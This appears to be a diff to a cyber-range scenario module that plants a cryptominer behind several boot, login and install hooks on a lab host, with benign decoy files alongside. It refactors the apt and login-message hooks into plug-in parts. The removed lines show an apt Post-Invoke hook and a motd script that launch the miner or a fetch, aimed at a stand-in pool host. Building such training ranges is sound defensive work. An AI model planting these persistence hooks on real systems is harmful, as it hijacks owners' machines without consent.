@@ -1,6 +1,6 @@
 // One payload behind every door that opens at boot, at login or at an installation: rc.local, an init script with its links, profile.d, a user's own
-// .bashrc, an apt hook, a login message. Beside each stands the owner's own, which must stay byte for byte. Cron is only one door more.
-import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
+// .bashrc, and every part in the folder startup-parts. Beside each stands the owner's own, which must stay byte for byte. Cron is only one door more.
+import { mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import type { RangeHost } from '../host.ts'
 import { world } from '../net.ts'
@@ -9,6 +9,19 @@ import { decoyFiles, decoyProcesses, legitimatePreload, plantDecoys } from './de
 import { append, put } from './plant.ts'
 import { fakeWallet, untilMining } from './mining.ts'
 import type { DecoyFile, HostileFile, Scenario } from './scenario.ts'
+
+/** One more door, in a file of its own below startup-parts: nothing else needs to know of it. */
+export interface StartupPart {
+  /** `start` is a command line that starts the payload. */
+  plant(host: RangeHost, start: string): void
+  readonly hostileFiles: readonly HostileFile[]
+  readonly decoyFiles: readonly DecoyFile[]
+}
+
+const folder = join(import.meta.dirname, 'startup-parts')
+const parts = await Promise.all(
+  readdirSync(folder).map(async (name) => ((await import(join(folder, name))) as { readonly part: StartupPart }).part),
+)
 
 const miner = cronMiner('/usr/lib/.lab_sys', 'lab_netdns', '/etc/cron.d/lab-netdns')
 const start = `${miner.payload} -B -o stratum+tcp://pool.range.test:${world.poolPort} -u ${fakeWallet} -p x --cpu 40`
@@ -75,8 +88,7 @@ const hostileFiles: readonly HostileFile[] = [
   ...links.map((path): HostileFile => ({ path, remove: 'whole' })),
   { path: '/etc/profile.d/lab_php.sh', remove: 'whole' },
   { path: '/home/dev/.bashrc', remove: { lines: [aliasLine, fetchLine] } },
-  { path: '/etc/apt/apt.conf.d/99lab-periodic', remove: 'whole' },
-  { path: '/etc/update-motd.d/95-lab-health', remove: 'whole' },
+  ...parts.flatMap((part) => part.hostileFiles),
 ]
 
 const ownFiles: readonly DecoyFile[] = [
@@ -87,18 +99,19 @@ const ownFiles: readonly DecoyFile[] = [
   { path: '/home/deploy/.bashrc', looks: 'nvm, starship, aliases, a filter over ps' },
   { path: '/home/deploy/.profile', looks: 'starts an agent in the background' },
   { path: '/root/.bash_aliases', looks: 'puts another tool in the place of top' },
-  { path: '/etc/apt/apt.conf.d/98tell-us', looks: 'a hook of the owner’s that talks to the network' },
-  { path: '/etc/update-motd.d/50-load', looks: 'a login message that no package owns' },
+  ...parts.flatMap((part) => part.decoyFiles),
 ]
 
 export const startups: Scenario = {
   name: 'startups',
-  about: 'one payload behind rc.local, an init script, profile.d, a user’s .bashrc, an apt hook and a login message',
+  about:
+    'one payload behind rc.local, an init script, profile.d, a user’s .bashrc, hooks of apt and logins, and other doors',
   plant: async (host) => {
     put(host, '/etc/ld.so.preload', `${legitimatePreload}\n`)
     await plantDecoys(host)
     plantOwn(host)
     plantHostile(host)
+    for (const part of parts) part.plant(host, start)
     await miner.plant(host)
     await untilMining(host, startups)
   },
@@ -133,14 +146,6 @@ function plantOwn(host: RangeHost): void {
     { owner: 'deploy' },
   )
   put(host, '/root/.bash_aliases', "alias top='htop'\nalias vi=vim\n")
-  put(
-    host,
-    '/etc/apt/apt.conf.d/98tell-us',
-    'DPkg::Post-Invoke { "if [ -x /usr/bin/logger ]; then logger -t apt done; fi"; };\nAcquire::Retries "3";\n',
-  )
-  put(host, '/etc/update-motd.d/50-load', '#!/bin/sh\nprintf "load: %s\\n" "$(cut -d" " -f1-3 /proc/loadavg)"\n', {
-    mode: 0o755,
-  })
 }
 
 function plantHostile(host: RangeHost): void {
@@ -159,13 +164,6 @@ function plantHostile(host: RangeHost): void {
   put(host, '/home/dev/.bashrc', bashrc, { owner: 'dev' })
   append(host, '/home/dev/.bashrc', aliasLine)
   append(host, '/home/dev/.bashrc', fetchLine)
-  put(
-    host,
-    '/etc/apt/apt.conf.d/99lab-periodic',
-    `// update statistics\nDPkg::Post-Invoke {\n  "nohup ${start} >/dev/null 2>&1 &";\n};\n`,
-    fresh,
-  )
-  put(host, '/etc/update-motd.d/95-lab-health', `#!/bin/sh\n${fetch} &\n`, { mode: 0o755, ...fresh })
 }
 
 function link(host: RangeHost, path: string, target: string): void {
